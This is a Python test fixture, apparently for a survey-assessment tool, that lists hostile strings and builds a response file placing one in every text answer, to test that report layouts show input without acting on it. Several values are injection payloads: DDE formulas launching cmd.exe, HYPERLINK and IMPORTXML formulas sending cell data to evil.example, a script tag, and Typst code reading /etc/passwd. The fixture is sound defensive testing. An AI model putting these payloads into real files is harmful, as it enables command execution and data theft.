"""Answers that a layout could act on instead of showing them, and an agency that gives them all."""

from typing import Any

from assessor.model.ruleset import Pack

NASTY = {
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "dde": "=cmd|'/c calc'!A0",
    "dde plus": "+cmd|'/c calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "import": '=IMPORTXML("http://evil.example","//a")',
    "array": "{=SUM(A1:A9)}",
    "address": "https://evil.example/a?b=c#d",
    "mail": "mailto:somebody@evil.example",
    "internal": "internal:Summary!A1",
    "external": "external:c:\\evil.xlsx",
    "number": "1234567890123456789",
    "exponent": "1e5",
    "truth": "TRUE",
    "error": "#REF!",
    "escape": "_x0041_ _x005F_",
    "page code": "&G&[Path]&P&&",
    "tag": "<b>bold</b><script>alert(1)</script>",
    "xml": ']]> <!-- --> &amp; &#65; <?xml version="1.0"?>',
    "typst": '#panic("no") #read("/etc/passwd") $x^2$ *b* _i_ `r` @ref <label> // /* */ #import "@preview/x:1.0.0": *',
    "typst string": '") #panic("no',
    "backslash": "\\u{41} \\n \\\\ \\",
    "typst list": "= Heading\n- item\n+ item\n/ term: meaning",
    "markdown": "# Heading\n| a | b |\n![x](http://evil.example/x.png)",
    "field": '{ HYPERLINK "http://evil.example" } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }',
    "controls": "a\x00b\x07c\x1b[31md\x7fe\x85f",
    "direction": "a\u202eb\u2066c\u200fd",
    "broken": "a\ufffeb\uffffc",
    "line ends": "a\u2028b\u2029c\x0bd\x0ce",
    "scripts": "日本語 العربية שלום नमस्ते Ελληνικά Жизнь",
    "pictures": "👩\u200d🦽 🏳️\u200d🌈 ☒",
    "combined": "e\u0301 o\u0308\u0304 Z\u0351\u036b\u0343",
    "long word": "w" * 3_000,
    "long text": "word " * 3_900,
    "json": '{"kind": "heading", "text": [1, null]}',
}
"""What it is -> the text. Another corpus may take its place: only values that are texts are needed."""


def agency_of(text: str, pack: Pack) -> dict[str, Any]:
    """A response file of one person who writes `text` wherever words are taken."""
    items = [item for item in pack.instrument.items.values() if "manager" in item.ask]
    words = {item.id: text for item in items if item.kind == "text"}
    return {
        "response": 1,
        "pack": {"id": pack.id, "version": pack.version},
        "agency": text[:200] if text[:200].strip() else "Some Place",
        "date": "2026-01-31",
        "respondents": [
            {
                "id": "r1",
                "perspective": "manager",
                "unit": text[:200],
                "answers": words,
                "notes": {items[0].id: text},
                "own_questions": [{"ask": text[:2000], "answer": text}],
            }
        ],
    }
